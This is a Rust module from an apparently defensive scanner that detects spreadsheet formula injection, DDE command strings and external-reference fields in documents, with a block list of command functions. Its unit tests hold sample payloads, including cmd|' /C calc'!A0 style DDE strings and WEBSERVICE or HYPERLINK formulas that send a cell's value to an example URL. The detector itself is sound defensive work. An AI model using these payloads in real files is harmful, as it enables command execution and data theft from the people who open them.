//! Formulas and fields that do more than calculate.

use crate::Reason;

/// Functions that run something, or ask a server.
const COMMANDS: [&str; 15] = [
    "CALL(",
    "DDE(",
    "EXEC(",
    "FILTERXML(",
    "IMAGE(",
    "IMPORTDATA(",
    "IMPORTFEED(",
    "IMPORTHTML(",
    "IMPORTRANGE(",
    "IMPORTXML(",
    "REGISTER(",
    "REGISTER.ID(",
    "RTD(",
    "SHELL(",
    "WEBSERVICE(",
];

/// Quotes behind a bar that may end its topic, so that many bars cost no more than their text.
const QUOTES: usize = 16;

/// What a formula does beyond calculating.
pub(crate) fn danger(formula: &str) -> Option<Reason> {
    let plain: String =
        formula.chars().filter(|c| !c.is_whitespace()).map(|c| c.to_ascii_uppercase()).collect();
    if is_exchange(formula) {
        Some(Reason::Dde)
    } else if COMMANDS.iter().any(|command| plain.contains(command)) {
        Some(Reason::CommandCell)
    } else if plain.contains("HYPERLINK(") && plain.contains('&') && plain.contains("://") {
        // A link made of other cells takes them with it.
        Some(Reason::CommandCell)
    } else {
        None
    }
}

/// Dynamic data exchange: `program|topic!item` outside of strings. Blanks may stand around a topic in quotes; a sentence with
/// a bar and an exclamation mark is none.
fn is_exchange(formula: &str) -> bool {
    let mut in_string = false;
    formula.char_indices().any(|(at, c)| {
        in_string ^= c == '"';
        if c != '|' || in_string {
            return false;
        }
        let (program, behind) = formula.split_at_checked(at).unwrap_or_default();
        let topic = behind.strip_prefix('|').unwrap_or_default();
        let is_named =
            |program: &str| program.ends_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '\'' | '_'));
        match topic.trim_start().strip_prefix('\'') {
            Some(quoted) => {
                is_named(program.trim_end())
                    && quoted
                        .split('\'')
                        .take(QUOTES)
                        .skip(1)
                        .any(|behind| behind.trim_start().starts_with('!'))
            }
            None => {
                let item = topic.trim_start_matches(|c: char| !matches!(c, '!' | '|') && !c.is_whitespace());
                is_named(program) && item.len() < topic.len() && is_cell(item)
            }
        }
    })
}

/// Whether an exclamation mark begins a text, and what it belongs to is behind it.
fn is_cell(text: &str) -> bool {
    text.strip_prefix('!').is_some_and(|item| {
        item.starts_with(|c: char| c.is_ascii_alphanumeric() || matches!(c, '\'' | '$' | '_'))
    })
}

/// Whether what stands behind a sign calculates: a function is called, or cells of another sheet are.
pub(crate) fn calculates(text: &str) -> bool {
    let name = text.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'));
    let calls =
        text.starts_with(|c: char| c.is_ascii_alphabetic()) && name.starts_with('(') && text.ends_with(')');
    let sheets = || text.match_indices('!').any(|(at, _)| is_cell(text.get(at..).unwrap_or_default()));
    calls || text.contains(['+', '*', '/']) && sheets()
}

/// What the instruction of a field in a text does: its first word is its command.
pub(crate) fn field(instruction: &str) -> Option<Reason> {
    let mut words = instruction.split_whitespace();
    let command = words.next()?.trim_matches('"').to_ascii_uppercase();
    let elsewhere = || instruction.contains("://") || instruction.contains("\\\\");
    match command.as_str() {
        "DDE" | "DDEAUTO" => Some(Reason::Dde),
        "INCLUDETEXT" | "INCLUDEPICTURE" | "IMPORT" | "LINK" if elsewhere() => {
            Some(Reason::ExternalReference)
        }
        "MACROBUTTON" => None,
        "HYPERLINK" if elsewhere() => Some(Reason::ExternalLink),
        // What nests commands in quotes builds one.
        "QUOTE" if instruction.split_whitespace().count() > 8 => Some(Reason::Dde),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_that_act_are_told_from_those_that_calculate() {
        for (formula, expected) in [
            ("SUM(A1:A9)", None),
            ("A1 & \" | \" & B1", None),
            ("HYPERLINK(\"https://example.org\",\"here\")", None),
            ("cmd|' /C calc'!A0", Some(Reason::Dde)),
            ("\"a|b\" & cmd | ' /C calc' !A0", Some(Reason::Dde)),
            ("A1|B1+cmd|calc!A0", Some(Reason::Dde)),
            ("DDE(\"soffice\",\"x\",\"y\")", Some(Reason::CommandCell)),
            ("SUBSTITUTE(A1,\"a|b\",\"!c\")", None),
            ("alice Check this | great deal!", None),
            ("alice Check this | great deal! Now", None),
            ("MSEXCEL|'\\..\\cmd.exe /c x'!''", Some(Reason::Dde)),
            ("WEBSERVICE(\"https://example.org/?\"&A1)", Some(Reason::CommandCell)),
            ("HYPERLINK(\"https://example.org/?q=\"&A1)", Some(Reason::CommandCell)),
            ("importxml(B1, C1)", Some(Reason::CommandCell)),
        ] {
            assert_eq!(danger(formula), expected, "{formula}");
        }
        assert_eq!(field(" DDEAUTO c:\\\\x \"y\" "), Some(Reason::Dde));
        assert_eq!(field("PAGE \\* MERGEFORMAT"), None);
    }
}
